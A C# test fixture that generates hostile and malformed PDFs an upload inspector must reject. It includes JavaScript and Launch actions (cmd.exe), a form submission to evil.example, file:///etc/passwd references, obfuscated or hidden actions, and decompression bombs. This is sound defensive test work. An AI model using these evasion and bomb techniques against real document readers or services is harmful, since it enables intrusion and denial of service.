using System.Text;

namespace OnlinePublicServices.Infrastructure.Tests.Documents.Inspection;

/// <summary>PDFs that must be refused, each with the code it must be refused with.</summary>
internal static class HostilePdfs
{
    private const string Active = "upload.pdf-active-content";
    private const string Broken = "upload.pdf-broken";
    private const string Complex = "upload.too-complex";

    private const string Script = "/S /JavaScript /JS (app.alert\\(1\\))";

    public static IEnumerable<(string Name, string Code, byte[] Bytes)> All() =>
        [.. ActiveOnes(), .. HiddenOnes(), .. BrokenOnes(), .. EndlessOnes()];

    private static IEnumerable<(string, string, byte[])> ActiveOnes()
    {
        string[] catalogs =
        [
            $"/OpenAction << {Script} >>",
            $"/AA << /WC << {Script} >> >>",
            $"/Names << /JavaScript << /Names [(a) << {Script} >>] >> >>",
            "/Names << /EmbeddedFiles << /Names [(a.exe) << /Type /Filespec /F (a.exe) >>] >> >>",
            "/OpenAction << /S /Launch /F (cmd.exe) >>",
            "/OpenAction << /S /SubmitForm /F (http://evil.example/) >>",
            "/OpenAction << /S /ImportData /F (x.fdf) >>",
            "/OpenAction << /S /GoToR /F (other.pdf) /D [0 /Fit] >>",
            "/OpenAction << /S /GoToE /T << /R /C >> >>",
            "/OpenAction << /S /URI /URI (javascript:alert\\(1\\)) >>",
            "/OpenAction << /S /URI /URI (file:///etc/passwd) >>",
            "/OpenAction << /S /Named /N /Print >>",
            "/OpenAction << /S /Rendition >>",
            "/OpenAction << /S /ResetForm >>",
            "/OpenAction << /S /Hide /T (x) >>",
            "/OpenAction << /S /Thread /D 0 >>",
            "/OpenAction << /S /Movie >>",
            "/OpenAction << /S /Sound >>",
            "/OpenAction << /S /SetOCGState /State [] >>",
            "/OpenAction << /S /GoTo3DView >>",
            "/OpenAction << /S /Trans >>",
            "/OpenAction << /S /SomethingNew >>",
            $"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << {Script} >> >>",
            $"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [<< /S /GoTo /D [3 0 R /Fit] >> << {Script} >>] >>",
            "/AcroForm << /Fields [] /XFA (x) >>",
            "/AcroForm << /Fields [] /XFA [(template) (x)] >>",
            "/Collection << /View /D >>",
            "/NeedsRendering true",
            "/AF [<< /Type /Filespec /F (x.xml) >>]",
        ];
        foreach (var catalog in catalogs)
            yield return ($"catalog {catalog}", Active, new APdf().Catalog(catalog).Bytes());

        string[] pages =
        [
            $"/AA << /O << {Script} >> >>",
            $"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << {Script} >> >>]",
            $"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /PA << /S /Launch /F (x) >> >>]",
            $"/Annots [<< /Subtype /Widget /FT /Tx /Rect [0 0 9 9] /AA << /K << {Script} >> >> >>]",
            $"/Annots [<< /Subtype /Screen /Rect [0 0 9 9] >>]",
            $"/Annots [<< /Subtype /RichMedia /Rect [0 0 9 9] >>]",
            $"/Annots [<< /Subtype /FileAttachment /Rect [0 0 9 9] >>]",
            $"/Annots [<< /Subtype /Movie /Rect [0 0 9 9] >>]",
            $"/Annots [<< /Subtype /Sound /Rect [0 0 9 9] >>]",
            $"/Annots [<< /Subtype /3D /Rect [0 0 9 9] >>]",
            $"/Annots [<< /Subtype /TrapNet /Rect [0 0 9 9] >>]",
            $"/Annots [<< /Subtype /Unheard /Rect [0 0 9 9] >>]",
            $"/Annots [<< /Type /Annot /Rect [0 0 9 9] >>]",
        ];
        foreach (var page in pages)
            yield return ($"page {page}", Active, new APdf().Page(page).Bytes());

        yield return (
            "font matrix with words",
            Active,
            new APdf()
                .Object(
                    4,
                    "<< /Type /Font /Subtype /Type1 /BaseFont /X /FontMatrix [1 0 0 1 0 (0\\);alert\\(1\\)//)] >>"
                )
                .Bytes()
        );
        yield return (
            "PostScript picture",
            Active,
            new APdf().Stream(6, "/Type /XObject /Subtype /PS", "showpage").Bytes()
        );
        yield return ("stream in another file", Active, new APdf().Stream(6, "/F (/etc/passwd)", "").Bytes());
        yield return (
            "form from another file",
            Active,
            new APdf()
                .Stream(6, "/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F (x.pdf) /Page 0 >>", "")
                .Bytes()
        );
        yield return ("embedded file unreferenced", Active, new APdf().Stream(6, "/Type /EmbeddedFile", "MZ").Bytes());
        yield return (
            "encrypted by its trailer",
            "upload.pdf-encrypted",
            new APdf { TrailerExtra = "/Encrypt << /Filter /Standard /V 1 /R 2 >>" }.Bytes()
        );
        yield return ("crypt filter", "upload.pdf-encrypted", new APdf().Stream(6, "/Filter /Crypt", "x").Bytes());
    }

    private static IEnumerable<(string, string, byte[])> HiddenOnes()
    {
        yield return (
            "escaped name",
            Active,
            new APdf().Catalog("/OpenAction << /S /J#61vaScript /J#53 (x) >>").Bytes()
        );
        yield return (
            "escaped whole name",
            Active,
            new APdf().Catalog("/#4f#70#65#6e#41#63#74#69#6f#6e << /#53 /#4a#61#76#61#53#63#72#69#70#74 >>").Bytes()
        );
        yield return (
            "by reference",
            Active,
            new APdf().Catalog("/OpenAction 6 0 R").Object(6, "<< /S 7 0 R >>").Object(7, "/Launch").Bytes()
        );
        yield return (
            "in an object stream",
            Active,
            new APdf().Catalog("/OpenAction 6 0 R").WithObjectStream((6, $"<< {Script} >>"))
        );
        yield return ("in an object stream, unreferenced", Active, new APdf().WithObjectStream((6, $"<< {Script} >>")));
        yield return (
            "catalog in an object stream",
            Active,
            new APdf().WithObjectStream((1, $"<< /Type /Catalog /Pages 2 0 R /AA << >> >>"))
        );
        yield return ("unreferenced object", Active, new APdf().Object(9, $"<< {Script} >>").Bytes());
        yield return (
            "in a later revision",
            Active,
            APdf.Revised(new APdf().Bytes(), (1, $"<< /Type /Catalog /Pages 2 0 R /OpenAction << {Script} >> >>"))
        );
        yield return (
            "in an earlier revision",
            Active,
            APdf.Revised(
                new APdf().Catalog($"/OpenAction << {Script} >>").Bytes(),
                (1, "<< /Type /Catalog /Pages 2 0 R >>")
            )
        );
        yield return (
            "deep inside lists",
            Active,
            new APdf().Object(9, $"[[[[ << /X [ << {Script} >> ] >> ]]]]").Bytes()
        );
        yield return (
            "in a hexadecimal-escaped key of a field",
            Active,
            new APdf()
                .Catalog("/AcroForm << /Fields [6 0 R] >>")
                .Object(6, "<< /FT /Btn /T (b) /#41#41 << >> >>")
                .Bytes()
        );
        var bytes = new APdf().Bytes();
        var gap = Encoding.Latin1.GetString(bytes).IndexOf("xref\n0 1", StringComparison.Ordinal);
        yield return (
            "between the objects, for a repairing reader",
            Broken,
            [
                .. bytes[..gap],
                .. APdf.Latin($"1 0 obj << /Type /Catalog /OpenAction << {Script} >> >> endobj\n"),
                .. bytes[gap..],
            ]
        );
    }

    private static IEnumerable<(string, string, byte[])> BrokenOnes()
    {
        var good = new APdf().Bytes();
        var text = Encoding.Latin1.GetString(good);
        for (var cut = 1; cut <= 9; cut++)
            yield return ($"cut at {cut}0 %", Broken, good[..Math.Max(6, good.Length * cut / 10)]);
        yield return ("cut by the last mark", Broken, good[..^7]);
        yield return ("archive behind it", Broken, [.. good, .. "PK\x03\x04 evil"u8]);
        yield return ("page behind it", Broken, [.. good, .. "<html><script>alert(1)</script>"u8]);
        yield return ("program behind it", Broken, [.. good, .. "MZ\x90\x00"u8]);
        yield return ("photograph behind it", Broken, [.. good, 0xFF, 0xD8, 0xFF, 0xE0]);
        yield return (
            "another PDF behind it",
            Broken,
            [.. good, .. new APdf().Catalog($"/OpenAction << {Script} >>").Bytes()]
        );
        yield return ("no version", Broken, APdf.Latin(text.Replace("%PDF-1.7", "%PDF-x.y")));
        yield return ("unheard version", Broken, APdf.Latin(text.Replace("%PDF-1.7", "%PDF-9.9")));
        yield return ("wrong offset", Broken, APdf.Latin(text.Replace("startxref\n", "startxref\n9")));
        yield return ("offset of zero", Broken, new APdf { TrailerExtra = "/Prev 0" }.Bytes());
        yield return (
            "revisions in a circle",
            Broken,
            new APdf { TrailerExtra = $"/Prev {text.IndexOf("xref\n0 1", StringComparison.Ordinal)}" }.Bytes()
        );
        yield return (
            "object missing its end",
            Broken,
            APdf.Latin(text.Replace("Helvetica >>\nendobj", "Helvetica >>\nendxxx"))
        );
        yield return ("stream longer than it says", Broken, APdf.Latin(text.Replace("/Length 36", "/Length 12")));
        yield return ("stream shorter than it says", Broken, APdf.Latin(text.Replace("/Length 36", "/Length 99")));
        yield return ("key twice", Broken, new APdf().Catalog("/Pages 9 0 R").Bytes());
        yield return (
            "page tree in a circle",
            Broken,
            new APdf().Object(2, "<< /Type /Pages /Kids [3 0 R 2 0 R] /Count 2 >>").Bytes()
        );
        yield return (
            "page count that lies",
            Broken,
            new APdf().Object(2, "<< /Type /Pages /Kids [3 0 R] /Count 7 >>").Bytes()
        );
        yield return ("no page", Broken, new APdf().Object(2, "<< /Type /Pages /Kids [] /Count 0 >>").Bytes());
        yield return ("no catalog", Broken, new APdf().Object(1, "<< /Type /Nothing >>").Bytes());
        yield return ("catalog without pages", Broken, new APdf().Object(1, "<< /Type /Catalog >>").Bytes());
        yield return ("page without size", Broken, new APdf().Object(3, "<< /Type /Page /Parent 2 0 R >>").Bytes());
        yield return (
            "outline in a circle",
            Broken,
            new APdf()
                .Catalog("/Outlines 6 0 R")
                .Object(6, "<< /First 7 0 R >>")
                .Object(7, "<< /Title (a) /Next 8 0 R >>")
                .Object(8, "<< /Title (b) /Next 7 0 R >>")
                .Bytes()
        );
        yield return ("unheard filter", Broken, new APdf().Stream(6, "/Filter /Unheard", "x").Bytes());
        yield return (
            "packed data that are none",
            Broken,
            new APdf().Stream(6, "/Filter /FlateDecode", "not deflated at all").Bytes()
        );
        yield return (
            "nested a thousand deep",
            Broken,
            new APdf().Object(6, new string('[', 1000) + new string(']', 1000)).Bytes()
        );
        yield return (
            "reference in a circle",
            Broken,
            new APdf()
                .Object(6, "7 0 R")
                .Object(7, "6 0 R")
                .Object(5, "<< /Length 6 0 R >>\nstream\nx\nendstream")
                .Bytes()
        );
        yield return ("nothing but a header", Broken, "%PDF-1.7\n"u8.ToArray());
    }

    private static IEnumerable<(string, string, byte[])> EndlessOnes()
    {
        yield return ("forms that draw forms", Complex, Multiplying(levels: 12, calls: 10));
        yield return (
            "a form that draws itself",
            Broken,
            new APdf()
                .Object(
                    3,
                    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /XObject << /X 6 0 R >> >> /Contents 5 0 R >>"
                )
                .Stream(5, "", "/X Do")
                .Stream(
                    6,
                    "/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>",
                    "/X Do"
                )
                .Bytes()
        );
        yield return ("unpacks to 600 MiB", Complex, Bomb(600));
        yield return (
            "content of 80 MiB in 80 KiB",
            Complex,
            new APdf()
                .Object(
                    3,
                    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /XObject << /X 6 0 R >> >> /Contents 5 0 R >>"
                )
                .Packed(5, "", new byte[80 * 1024 * 1024])
                .Stream(6, "/Type /XObject /Subtype /Form /BBox [0 0 9 9]", "")
                .Bytes()
        );
        yield return (
            "packed twice",
            Complex,
            new APdf()
                .Stream(6, "/Filter [/FlateDecode /FlateDecode]", APdf.Deflate(APdf.Deflate(new byte[1 << 20])))
                .Bytes()
        );
        yield return (
            "packed four ways",
            Complex,
            new APdf().Stream(6, "/Filter [/ASCIIHexDecode /ASCII85Decode /RunLengthDecode /FlateDecode]", "x").Bytes()
        );
        yield return (
            "picture of ten thousand megapixels",
            Complex,
            new APdf()
                .Stream(
                    6,
                    "/Type /XObject /Subtype /Image /Width 100000 /Height 100000 /BitsPerComponent 1 /ColorSpace /DeviceGray",
                    "x"
                )
                .Bytes()
        );
        yield return (
            "page of twelve metres",
            "upload.pdf-page-too-large",
            new APdf()
                .Object(2, "<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
                .Object(3, "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 34016 842] >>")
                .Bytes()
        );
        yield return (
            "page blown up by its unit",
            "upload.pdf-page-too-large",
            new APdf().Page("/UserUnit 100").Bytes()
        );
        yield return ("2,001 pages", "upload.pdf-too-many-pages", Pages(2001));
    }

    private static byte[] Multiplying(int levels, int calls)
    {
        var pdf = new APdf()
            .Object(
                3,
                "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /XObject << /X 10 0 R >> >> /Contents 5 0 R >>"
            )
            .Stream(5, "", "/X Do");
        var drawing = string.Concat(Enumerable.Repeat("/X Do\n", calls));
        for (var level = 0; level < levels; level++)
            pdf.Stream(
                10 + level,
                $"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X {11 + level} 0 R >> >>",
                drawing
            );
        return pdf.Stream(10 + levels, "/Type /XObject /Subtype /Form /BBox [0 0 9 9]", "").Bytes();
    }

    private static byte[] Bomb(int megabytes)
    {
        var pdf = new APdf();
        for (var i = 0; i < megabytes / 60; i++)
            pdf.Packed(10 + i, "", new byte[60 * 1024 * 1024]);
        return pdf.Bytes();
    }

    internal static byte[] Pages(int count)
    {
        var pdf = new APdf();
        var kids = string.Join(' ', Enumerable.Range(10, count).Select(n => $"{n} 0 R"));
        pdf.Object(2, $"<< /Type /Pages /Kids [{kids}] /Count {count} >>");
        pdf.Object(3, "null");
        for (var i = 0; i < count; i++)
            pdf.Object(10 + i, "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>");
        return pdf.Bytes();
    }
}
